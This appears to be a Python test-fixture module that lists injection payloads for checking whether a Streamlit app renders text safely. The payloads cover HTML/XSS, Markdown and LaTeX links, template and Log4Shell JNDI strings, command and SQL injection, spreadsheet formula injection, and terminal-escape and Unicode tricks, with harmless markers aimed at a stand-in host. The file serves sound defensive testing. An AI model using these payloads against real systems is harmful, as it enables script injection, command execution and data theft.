"""Texts that try to be more than text: in HTML, Markdown, Streamlit's own marks, LaTeX, Plotly's pseudo-HTML, CSS.

What would act leaves a trace: `window.pwned` is set, an address at `HOST` is asked for, an element carries an address
at `HOST`, or a word that begins with "pwn" stands alone in an element because the marks around it were eaten.
"""

from __future__ import annotations

HOST = "pwn.example"
RUN = "window.pwned=1"

HTML = (
    f"<script>{RUN}</script>",
    f'<script src="https://{HOST}/a.js"></script>',
    f'<img src="https://{HOST}/b.png" onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><a xlink:href='https://{HOST}/c'><text>pwnsvg</text></a></svg>",
    f'<iframe src="https://{HOST}/d" srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="https://{HOST}/e" onmouseover="{RUN}">pwnanchor</a>',
    f"<style>@import url(https://{HOST}/f.css); * {{ background: url(https://{HOST}/g.png) }}</style>",
    f'<div style="background:url(https://{HOST}/h.png)">pwndiv</div>',
    f"<video><source onerror={RUN}></video><body onload={RUN}>",
    f"<object data=https://{HOST}/i></object><embed src=https://{HOST}/j><link rel=stylesheet href=//{HOST}/k>",
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/l"><base href="https://{HOST}/">',
    f'"><script>{RUN}</script><x y="',
    f"</script></style></textarea></title><script>{RUN}</script>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;b&#62;pwnentity&#60;/b&#62;",
)
MARKDOWN = (
    f"![pwnimage](https://{HOST}/m.png)",
    f"[pwnlink](https://{HOST}/n)",
    f"[pwnscript](javascript:{RUN})",
    f"[pwndata](data:text/html,<script>{RUN}</script>)",
    f"[pwnref]: https://{HOST}/o ![pwnref][pwnref]",
    f"<https://{HOST}/p> https://{HOST}/q www.{HOST}/r pwn@{HOST}",
    "**pwnstrong** _pwnemphasis_ ~~pwnstruck~~ ***pwnboth***",
    "`pwncode` ``pwntwo``",
    "# pwnheading",
    "> pwnquote",
    "- pwnitem",
    "1. pwnnumbered",
    "| pwncell | b |\n|---|---|\n| c | pwnother |",
    "text[^1]\n\n[^1]: pwnfootnote",
    f"~~~ x\n<img src=https://{HOST}/s.png>\n~~~",
)
STREAMLIT = (
    ":red[pwnred] :blue-background[pwnback] :rainbow[pwnrainbow] :small[pwnsmall]",
    ":violet-badge[pwnbadge]",
    ":material/skull: pwn",
    ":tada: :shipit: pwn",
    ":streamlit: -> <- -- pwn",
)
LATEX = (
    r"$\href{javascript:window.pwned=1}{x}$ $$\frac{pwn}{1}$$",
    rf"$\includegraphics{{https://{HOST}/t.png}}$",
    r"\(x\) \[y\] \begin{align}pwn\end{align}",
)
PLOTLY = (
    "<b>pwnbold</b><i>pwnitalic</i><sub>pwnsub</sub><br>pwn",
    f'<a href="https://{HOST}/u" target="_top">pwnplot</a>',
    f'<span style="background:url(https://{HOST}/v.png)">pwnspan</span>',
    "%{y} %{customdata[0]} %{text}<extra>pwnextra</extra>",
)
TEMPLATES = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} {pwn!r} %(pwn)s %s %n",
    "${jndi:ldap://" + HOST + "/w} $(touch pwn) `touch pwn` ; touch pwn",
    "'; DROP TABLE memories; -- ' OR '1'='1",
    '=HYPERLINK("https://' + HOST + '/x","pwn") +cmd|pwn',
)
ODD = (
    "pwn\u202enettirw sdrawkcab\u2066",
    "pwn\x00\x07\x1b[31mred\x1b]8;;https://" + HOST + "/y\x07link\x1b]8;;\x07\x7f\x85",
    "pwn\u200b\u200d\ufeff\u2028\u2029\u00ad",
    "pwn" + "W" * 600,
    "pwn" + "\u0301" * 60,
    "pwn\ud7ff\ufffd\uffff\U0010ffff 👩‍👩‍👧‍👦",
)
PAYLOADS = HTML + MARKDOWN + STREAMLIT + LATEX + PLOTLY + TEMPLATES + ODD

# What is left standing alone where its marks were taken for marks.
WORDS = [
    "pwnsvg", "pwnanchor", "pwndiv", "pwnentity", "pwnimage", "pwnlink", "pwnscript", "pwndata", "pwnref", "pwnstrong",
    "pwnemphasis", "pwnstruck", "pwnboth", "pwncode", "pwntwo", "pwnheading", "pwnquote", "pwnitem", "pwnnumbered",
    "pwncell", "pwnother", "pwnfootnote", "pwnred", "pwnback", "pwnrainbow", "pwnsmall", "pwnbadge", "pwnbold",
    "pwnitalic", "pwnsub", "pwnplot", "pwnspan", "pwnextra",
]  # fmt: skip
